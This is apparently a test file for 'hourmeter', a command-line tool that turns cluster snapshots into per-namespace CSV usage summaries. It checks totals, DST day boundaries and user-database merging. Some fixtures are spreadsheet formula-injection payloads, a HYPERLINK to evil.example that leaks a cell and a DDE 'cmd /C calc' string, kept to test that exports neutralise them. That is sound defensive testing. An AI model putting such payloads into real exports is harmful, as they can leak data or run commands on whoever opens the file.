import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../src/reports/csv.js';
import { FIXTURES, run, tempDir, withAi4osFixture } from '../helpers/cli.js';

/** Reads a summary file as papaparse rows: every analyst's first step. */
function csv(path: string, delimiter = ';') {
  return parseCsv(readFileSync(path, 'utf8'), delimiter);
}

const HOURS = ['cpu_hours', 'gpu_hours', 'memory_gib_hours', 'disk_gib_hours', 'cpu_mhz_hours'] as const;
const PERIOD = ['--from', '2024-09-03', '--to', '2024-09-10'];

describe('hourmeter summarize on the AI4OS fixture folder', () => {
  it('writes the three AI4OS files per namespace, and they agree with stats for the same period', () => {
    const cwd = withAi4osFixture();
    const r = run(['summarize', ...PERIOD], { cwd });
    expect(r.code).toBe(0);
    const names = readdirSync(join(cwd, 'summaries')).sort();
    expect(names).toEqual([...['ai4eosc', 'ai4life', 'imagine'].flatMap((ns) => [`${ns}-full-agg.csv`, `${ns}-timeseries.csv`, `${ns}-users-agg.csv`]), 'coverage.json'].sort());
    expect(r.stdout.split('\n').filter(Boolean)).toHaveLength(10);

    const byNs = JSON.parse(run(['stats', ...PERIOD, '-o', 'json'], { cwd }).stdout);
    const byUser = JSON.parse(run(['stats', ...PERIOD, '--by', 'namespace,user', '-o', 'json'], { cwd }).stdout);
    for (const row of byNs.rows) {
      const ns = row.namespace as string;
      // The namespace total: exactly stats' numbers (same integer sums, one division).
      const full = csv(join(cwd, 'summaries', `${ns}-full-agg.csv`));
      expect(full.fields).toEqual(['from', 'to', 'timezone', ...HOURS, 'jobs', 'users', 'allocations', 'first_day', 'last_day']);
      expect(full.rows).toHaveLength(1);
      const f = full.rows[0]!;
      expect([f.from, f.to, f.timezone]).toEqual(['2024-09-03', '2024-09-10', 'UTC']);
      for (const k of [...HOURS, 'jobs', 'users', 'allocations']) expect(Number(f[k])).toBe(row[k]);

      // One row per user, the same as stats --by namespace,user.
      const users = csv(join(cwd, 'summaries', `${ns}-users-agg.csv`));
      expect(users.fields).toEqual(['user', ...HOURS, 'jobs', 'allocations', 'first_day', 'last_day']);
      const expected = byUser.rows.filter((u: { namespace: string }) => u.namespace === ns);
      expect(users.rows.map((u) => u.user)).toEqual(expected.map((u: { user: string }) => u.user));
      users.rows.forEach((u, i) => {
        for (const k of [...HOURS, 'jobs', 'allocations']) expect(Number(u[k])).toBe(expected[i][k]);
        expect(u.first_day! >= '2024-09-03' && u.first_day! <= u.last_day! && u.last_day! <= '2024-09-10').toBe(true);
      });

      // The daily rows add up to the total, up to floating-point rounding of the sum.
      const ts = csv(join(cwd, 'summaries', `${ns}-timeseries.csv`));
      expect(ts.rows.map((d) => d.date)).toEqual(['2024-09-03', '2024-09-04', '2024-09-05', '2024-09-06', '2024-09-07', '2024-09-08', '2024-09-09', '2024-09-10']);
      for (const k of HOURS) {
        const sum = ts.rows.reduce((s, d) => s + Number(d[k]), 0);
        expect(Math.abs(sum - row[k])).toBeLessThanOrEqual(1e-9 * Math.max(1, row[k]));
      }
      for (const d of ts.rows) {
        expect(Number(d.hours)).toBe(24);
        // The average held at once is the day's resource-hours / its hours.
        expect(Number(d.cpu_cores_avg)).toBeCloseTo(Number(d.cpu_hours) / 24, 9);
        expect(Number(d.memory_gib_avg)).toBeCloseTo(Number(d.memory_gib_hours) / 24, 9);
      }
      // 2024-09-06 has no snapshot (a cluster takedown): counts are empty, not zero, and
      // the allocations running through it still count.
      const gap = ts.rows.find((d) => d.date === '2024-09-06')!;
      expect([gap.snapshots, gap.running_jobs_avg, gap.queued_jobs_avg]).toEqual(['0', '', '']);
      expect(ts.rows.filter((d) => d.date !== '2024-09-06').every((d) => d.snapshots === '4' && d.running_jobs_avg !== '')).toBe(true);
    }
    const ai4eosc = csv(join(cwd, 'summaries', 'ai4eosc-timeseries.csv'));
    expect(Number(ai4eosc.rows.find((d) => d.date === '2024-09-06')!.cpu_hours)).toBeGreaterThan(0);
    expect(r.stderr).toMatch(/ai4eosc: no snapshot on 1 day \(2024-09-06\)/);
  });

  it('counts running and queued jobs from the snapshot files', () => {
    const cwd = withAi4osFixture();
    expect(run(['summarize', '--from', '2024-09-01', '--to', '2024-09-01', '--namespace', 'ai4eosc'], { cwd }).code).toBe(0);
    // Hand count over the four files of 2024-09-01: distinct running jobs with a start
    // time (a job listed as running without one has not started), and queued jobs.
    const running: number[] = [];
    const queued: number[] = [];
    for (const f of readdirSync(join(FIXTURES, 'ai4os/snapshots')).filter((n) => n.startsWith('2024-09-01T'))) {
      const doc = JSON.parse(readFileSync(join(FIXTURES, 'ai4os/snapshots', f), 'utf8')) as Record<string, { job_ID: string; status: string; alloc_start: string | null }[]>;
      const jobs = doc.ai4eosc!;
      running.push(new Set(jobs.filter((j) => j.status === 'running' && j.alloc_start).map((j) => j.job_ID)).size);
      queued.push(new Set(jobs.filter((j) => j.status === 'queued').map((j) => j.job_ID)).size);
    }
    expect(running).toHaveLength(4);
    const [day] = csv(join(cwd, 'summaries', 'ai4eosc-timeseries.csv')).rows;
    expect(Number(day!.snapshots)).toBe(4);
    expect(Number(day!.running_jobs_avg)).toBe(running.reduce((a, b) => a + b) / 4);
    expect(Number(day!.queued_jobs_avg)).toBe(queued.reduce((a, b) => a + b) / 4);
    expect(readdirSync(join(cwd, 'summaries')).sort()).toEqual(['ai4eosc-full-agg.csv', 'ai4eosc-timeseries.csv', 'ai4eosc-users-agg.csv', 'coverage.json']);
  });

  it('reads only new files for the job counts, and --no-index writes the same files', () => {
    const cwd = withAi4osFixture();
    const first = run(['summarize', '--debug', '--summaries', 'a'], { cwd });
    expect(first.stderr).toMatch(/job counts of 44 files \(44 read/);
    const again = run(['summarize', '--debug', '--summaries', 'b'], { cwd });
    expect(again.stderr).toMatch(/job counts of 44 files \(0 read/);
    expect(run(['summarize', '--no-index', '--summaries', 'c'], { cwd }).code).toBe(0);
    for (const f of readdirSync(join(cwd, 'a'))) {
      expect(readFileSync(join(cwd, 'b', f), 'utf8')).toBe(readFileSync(join(cwd, 'a', f), 'utf8'));
      expect(readFileSync(join(cwd, 'c', f), 'utf8')).toBe(readFileSync(join(cwd, 'a', f), 'utf8'));
    }
  });

  it('writes the original AI4OS columns and units with --format ai4os, and another delimiter with --delimiter', () => {
    const cwd = withAi4osFixture();
    expect(run(['summarize', ...PERIOD, '--summaries', 'native'], { cwd }).code).toBe(0);
    expect(run(['summarize', ...PERIOD, '--format', 'ai4os', '--delimiter', ','], { cwd }).code).toBe(0);
    const ts = csv(join(cwd, 'summaries', 'imagine-timeseries.csv'), ',');
    expect(ts.fields).toEqual(['date', 'cpu_num', 'cpu_MHz', 'memory_MB', 'disk_MB', 'gpu_num', 'queued', 'running']);
    const exact = csv(join(cwd, 'native', 'imagine-timeseries.csv'));
    // Whole numbers as pandas rounds them: halves to the even neighbour (4.5 -> 4).
    const round = (x: number) => (Math.abs(x % 1) === 0.5 ? 2 * Math.round(x / 2) : Math.round(x));
    ts.rows.forEach((d, i) => {
      const e = exact.rows[i]!;
      // Whole average cores and MB (MiB) held that day.
      expect(Number(d.cpu_num)).toBe(round(Number(e.cpu_cores_avg)));
      expect(Number(d.memory_MB)).toBe(round(Number(e.memory_gib_avg) * 1024));
      expect(d.running).toBe(e.running_jobs_avg === '' ? '' : String(round(Number(e.running_jobs_avg))));
    });
    expect(ts.rows.some((d) => d.running === '')).toBe(true);
    // Per user: resource-days (resource-hours / 24), rounded; the namespace row sums them.
    const users = csv(join(cwd, 'summaries', 'imagine-users-agg.csv'), ',');
    expect(users.fields).toEqual(['owner', 'cpu_num', 'cpu_MHz', 'memory_MB', 'disk_MB', 'gpu_num']);
    const exactUsers = csv(join(cwd, 'native', 'imagine-users-agg.csv'));
    users.rows.forEach((u, i) => expect(Number(u.gpu_num)).toBe(round(Number(exactUsers.rows[i]!.gpu_hours) / 24)));
    const full = csv(join(cwd, 'summaries', 'imagine-full-agg.csv'), ',');
    expect(full.fields).toEqual(['cpu_num', 'cpu_MHz', 'memory_MB', 'disk_MB', 'gpu_num']);
    expect(Number(full.rows[0]!.disk_MB)).toBe(users.rows.reduce((s, u) => s + Number(u.disk_MB), 0));
  });

  it('refuses bad settings with exit 2 and a message naming the flag', () => {
    const cwd = withAi4osFixture();
    expect(run(['summarize', '--format', 'ai4os', '--tz', 'Europe/Madrid'], { cwd })).toMatchObject({ code: 2, stderr: 'hourmeter: --format ai4os writes UTC days, as the original: drop --tz\n' });
    expect(run(['summarize', '--delimiter', ';;'], { cwd }).stderr).toMatch(/^hourmeter: --delimiter ";;": the separator is one character/);
    expect(run(['summarize', '--format', 'excel'], { cwd })).toMatchObject({ code: 2, stderr: 'hourmeter: --format "excel" is not one of hourmeter, ai4os\n' });
    expect(run(['summarize', '--from', '2024-02-30'], { cwd }).code).toBe(2);
    expect(run(['summarize', '--gc-window', 'soon'], { cwd }).stderr).toMatch(/--gc-window "soon" is not a duration/);
    expect(existsSync(join(cwd, 'summaries'))).toBe(false);
  });
});

/** A native snapshot file with one namespace, `lab`. */
function nativeSnapshot(dir: string, at: string, allocations: object[], queued: object[] = []) {
  const doc = {
    format: 'hourmeter.snapshot',
    version: 1,
    captured_at: at,
    finished_at: at,
    source: { kind: 'nomad', address: null, region: null },
    scope: { requested: ['*'], namespaces: ['lab'], failed: [] },
    allocations,
    queued,
  };
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, `${at}.json`), JSON.stringify(doc));
}

function alloc(id: string, user: string | null, status: string, start: string, end: string | null, res: { cpu_cores: number; gpu: number; memory_mib: number }) {
  return {
    id,
    namespace: 'lab',
    job_id: `job-${id}`,
    job_name: null,
    user,
    group: null,
    component: null,
    node: 'n1',
    status,
    created: start,
    start,
    end,
    modified: end ?? start,
    resources: { cpu_mhz: 0, disk_mib: 0, ...res },
  };
}

const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")';

/**
 * Allocation A (2 cores, 1 GPU, 1 GiB) of user EVIL runs from 2024-03-30T20:00Z to
 * 2024-04-01T01:00Z: 29 h, across two midnights and, in Madrid, the spring DST change of
 * 2024-03-31. Allocation B (1 core) of zoë runs 2024-03-31T10:00Z to 12:00Z. A job waits in
 * the second snapshot.
 */
function dstFolder(): string {
  const cwd = tempDir();
  const dir = join(cwd, 'snapshots');
  const a = (status: string, end: string | null) => alloc('a', EVIL, status, '2024-03-30T20:00:00Z', end, { cpu_cores: 2, gpu: 1, memory_mib: 1024 });
  nativeSnapshot(dir, '2024-03-30T21:00:00Z', [a('running', null)]);
  nativeSnapshot(dir, '2024-03-31T11:00:00Z', [a('running', null), alloc('b', 'zoë', 'running', '2024-03-31T10:00:00Z', null, { cpu_cores: 1, gpu: 0, memory_mib: 0 })], [
    { namespace: 'lab', job_id: 'waiting', job_name: null, user: 'zoë', group: null, component: null, submitted: null, queued: 3, resources: null },
  ]);
  nativeSnapshot(dir, '2024-04-01T03:00:00Z', [a('complete', '2024-04-01T01:00:00Z'), alloc('b', 'zoë', 'complete', '2024-03-31T10:00:00Z', '2024-03-31T12:00:00Z', { cpu_cores: 1, gpu: 0, memory_mib: 0 })]);
  return cwd;
}

describe('day boundaries, by hand', () => {
  it('cuts at midnight in Europe/Madrid, where 2024-03-31 has 23 hours', () => {
    const cwd = dstFolder();
    const r = run(['summarize', '--from', '2024-03-30', '--to', '2024-04-01', '--tz', 'Europe/Madrid'], { cwd });
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const ts = csv(join(cwd, 'summaries', 'lab-timeseries.csv'));
    // Madrid days in UTC: 03-30 = [03-29T23:00, 03-30T23:00), 03-31 = [03-30T23:00,
    // 03-31T22:00) (23 h), 04-01 = [03-31T22:00, 04-01T22:00).
    // A: 3 h on 03-30 (20:00-23:00Z), all 23 h of 03-31, 3 h on 04-01 (22:00-01:00Z).
    // B: 2 h on 03-31. CPU-hours: 2x3 = 6; 2x23 + 2 = 48; 2x3 = 6.
    // Snapshots by Madrid day: 21:00Z is 22:00 on 03-30; 11:00Z on 03-31; 03:00Z is 05:00
    // on 04-01. Running jobs: 1; 2; 0 (both complete). Queued: 0; 1 (one job); 0.
    expect(ts.rows.map((d) => [d.date, d.hours, d.snapshots, d.cpu_hours, d.gpu_hours, d.memory_gib_hours, d.cpu_cores_avg, d.running_jobs_avg, d.queued_jobs_avg, d.jobs, d.users])).toEqual([
      ['2024-03-30', '24', '1', '6', '3', '3', String(6 / 24), '1', '0', '1', '1'],
      ['2024-03-31', '23', '1', '48', '23', '23', String(48 / 23), '2', '1', '2', '2'],
      ['2024-04-01', '24', '1', '6', '3', '3', String(6 / 24), '0', '0', '1', '1'],
    ]);
    expect(csv(join(cwd, 'summaries', 'lab-full-agg.csv')).rows[0]).toMatchObject({ timezone: 'Europe/Madrid', cpu_hours: '60', gpu_hours: '29', jobs: '2', users: '2' });
  });

  it('cuts at UTC midnight by default', () => {
    const cwd = dstFolder();
    expect(run(['summarize'], { cwd }).code).toBe(0);
    // UTC days: A 4 h on 03-30 (20:00-24:00), 24 h on 03-31, 1 h on 04-01; B 2 h on 03-31.
    const ts = csv(join(cwd, 'summaries', 'lab-timeseries.csv'));
    expect(ts.rows.map((d) => [d.date, d.hours, d.cpu_hours, d.gpu_hours])).toEqual([
      ['2024-03-30', '24', '8', '4'],
      ['2024-03-31', '24', '50', '24'],
      ['2024-04-01', '24', '2', '1'],
    ]);
    // Users, by id: the one whose id is a formula is neutralised, and reads back intact.
    const raw = readFileSync(join(cwd, 'summaries', 'lab-users-agg.csv'), 'utf8');
    expect(raw.split('\n')[1]).toBe(`"'${EVIL.replace(/"/g, '""')}";58;29;29;0;0;1;1;2024-03-30;2024-04-01`);
    expect(csv(join(cwd, 'summaries', 'lab-users-agg.csv')).rows.map((u) => [u.user, u.cpu_hours])).toEqual([
      [EVIL, '58'],
      ['zoë', '2'],
    ]);
  });
});

describe('hourmeter userdb import and merge-users', () => {
  it('imports an AI4OS user database and merges names into the users-agg files', () => {
    const cwd = withAi4osFixture();
    const imp = run(['userdb', 'import', join(FIXTURES, 'ai4os/user-db.json')], { cwd });
    expect(imp).toMatchObject({ code: 0, stdout: `imported 69 users from ${join(FIXTURES, 'ai4os/user-db.json')} into userdb/users.json: 69 new, 0 completed\n` });
    const db = JSON.parse(readFileSync(join(cwd, 'userdb/users.json'), 'utf8'));
    expect(Object.keys(db)).toHaveLength(69);
    expect(db['a541582b6f4e184ec841dc63d740eb04ba468f4c7c6db70db93b6b3eae2c8f7d@egi.eu']).toEqual({ name: 'João Papadopoulos', email: 'joao.papadopoulos@outlook.com', first_seen: null, last_seen: null, groups: [] });

    expect(run(['summarize', ...PERIOD], { cwd }).code).toBe(0);
    const m = run(['merge-users'], { cwd });
    expect(m.code).toBe(0);
    expect(m.stdout).toBe(['ai4eosc', 'ai4life', 'imagine'].map((ns) => `wrote summaries/${ns}-users-agg-merged.csv\n`).join(''));
    for (const ns of ['ai4eosc', 'ai4life', 'imagine']) {
      const agg = csv(join(cwd, 'summaries', `${ns}-users-agg.csv`));
      const merged = csv(join(cwd, 'summaries', `${ns}-users-agg-merged.csv`));
      expect(merged.fields).toEqual(['user', 'name', 'email', ...agg.fields.slice(1)]);
      expect(merged.rows).toHaveLength(agg.rows.length);
      const missing = merged.rows.filter((r) => r.name === '' && r.email === '');
      merged.rows.forEach((r, i) => {
        expect(r.user).toBe(agg.rows[i]!.user);
        expect(r.cpu_hours).toBe(agg.rows[i]!.cpu_hours);
        if (db[r.user!]) expect([r.name, r.email]).toEqual([db[r.user!].name, db[r.user!].email]);
        else expect([r.name, r.email]).toEqual(['', '']);
      });
      const unknown = agg.rows.filter((r) => !db[r.user!]).length;
      expect(missing.length).toBe(unknown);
      if (unknown > 0) expect(m.stderr).toContain(`hourmeter: warning: ${ns}: ${unknown} user${unknown > 1 ? 's' : ''} of ${agg.rows.length} missing from userdb/users.json`);
    }
    // The fixture has users the database does not know.
    expect(m.stderr).toMatch(/warning: ai4eosc: \d+ users? of \d+ missing/);
  });

  it('keeps Unicode names and neutralises names that are formulas, and never drops an entry', () => {
    const cwd = dstFolder();
    mkdirSync(join(cwd, 'userdb'));
    // A user the snapshots already know keeps their name unless --overwrite.
    writeFileSync(join(cwd, 'userdb/users.json'), JSON.stringify({ keep: { name: 'Known Name', email: null, first_seen: '2024-01-01T00:00:00Z', last_seen: '2024-02-01T00:00:00Z', groups: ['g'] } }));
    writeFileSync(
      join(cwd, 'users.json'),
      JSON.stringify({ [EVIL]: { name: '@SUM(1+1)*cmd|" /C calc"!A0', email: '-2+3@example.org' }, 'zoë': { name: 'Zoë Ñúñez 日本', email: 'zoe@example.org' }, keep: { name: 'Other Name', email: 'k@example.org' } }),
    );
    expect(run(['userdb', 'import', 'users.json'], { cwd }).stdout).toBe(
      'imported 3 users from users.json into userdb/users.json: 2 new, 1 completed; 1 name or e-mail differs from the database\'s and was kept (--overwrite takes the file\'s)\n',
    );
    const db = JSON.parse(readFileSync(join(cwd, 'userdb/users.json'), 'utf8'));
    expect(db.keep).toEqual({ name: 'Known Name', email: 'k@example.org', first_seen: '2024-01-01T00:00:00Z', last_seen: '2024-02-01T00:00:00Z', groups: ['g'] });
    run(['userdb', 'import', 'users.json', '--overwrite'], { cwd });
    expect(JSON.parse(readFileSync(join(cwd, 'userdb/users.json'), 'utf8')).keep.name).toBe('Other Name');

    expect(run(['summarize', '--delimiter', ','], { cwd }).code).toBe(0);
    const m = run(['merge-users', '--delimiter', ','], { cwd });
    expect(m).toMatchObject({ code: 0, stderr: '' });
    const raw = readFileSync(join(cwd, 'summaries/lab-users-agg-merged.csv'), 'utf8');
    const lines = raw.split('\n');
    expect(lines[0]).toBe('user,name,email,cpu_hours,gpu_hours,memory_gib_hours,disk_gib_hours,cpu_mhz_hours,jobs,allocations,first_day,last_day');
    // Every cell a spreadsheet would run as a formula starts with a quote character.
    expect(lines[1]).toBe(`"'${EVIL.replace(/"/g, '""')}","'@SUM(1+1)*cmd|"" /C calc""!A0","'-2+3@example.org",58,29,29,0,0,1,1,2024-03-30,2024-04-01`);
    expect(lines[2]).toBe('zoë,Zoë Ñúñez 日本,zoe@example.org,2,0,0,0,0,1,1,2024-03-31,2024-03-31');
    expect(Buffer.from(raw, 'utf8').toString('utf8')).toBe(raw);
    expect(csv(join(cwd, 'summaries/lab-users-agg-merged.csv'), ',').rows.map((r) => [r.user, r.name, r.email])).toEqual([
      [EVIL, '@SUM(1+1)*cmd|" /C calc"!A0', '-2+3@example.org'],
      ['zoë', 'Zoë Ñúñez 日本', 'zoe@example.org'],
    ]);
  });

  it('names the file and the problem on bad input', () => {
    const cwd = withAi4osFixture();
    writeFileSync(join(cwd, 'bad.json'), '{"u1": {"name": "A"}, "u2": ["B"]}');
    const r = run(['userdb', 'import', 'bad.json'], { cwd });
    expect(r.code).toBe(3);
    expect(r.stderr).toBe('hourmeter: bad.json: user "u2": expected an object with "name" and "email", got ["B"]; expected AI4OS\'s users/user-db.json, an object such as {"<user id>": {"name": "...", "email": "..."}}. Nothing was imported\n');
    expect(existsSync(join(cwd, 'userdb/users.json'))).toBe(false);
    writeFileSync(join(cwd, 'bad.json'), '{"u1": {"name": "A"');
    expect(run(['userdb', 'import', 'bad.json'], { cwd }).stderr).toMatch(/^hourmeter: bad\.json: not valid JSON \(/);
    expect(run(['userdb', 'import', 'nowhere.json'], { cwd })).toMatchObject({ code: 2, stderr: "hourmeter: userdb import nowhere.json: no such file; give the path of AI4OS's users/user-db.json\n" });
    expect(run(['merge-users'], { cwd })).toMatchObject({ code: 2, stderr: 'hourmeter: --summaries summaries: no such folder; run `hourmeter summarize` first, or point --summaries at the folder it wrote\n' });
    run(['summarize'], { cwd });
    const wrong = run(['merge-users', '--delimiter', ','], { cwd });
    expect(wrong.code).toBe(3);
    expect(wrong.stderr).toMatch(/^hourmeter: summaries\/ai4eosc-users-agg\.csv: .*written by `hourmeter summarize` with --delimiter ","\?\n$/);
    expect(run(['merge-users', '--namespace', 'nope'], { cwd }).stderr).toBe('hourmeter: --namespace nope: summaries/nope-users-agg.csv does not exist; summaries hold ai4eosc, ai4life, imagine\n');
  });
});
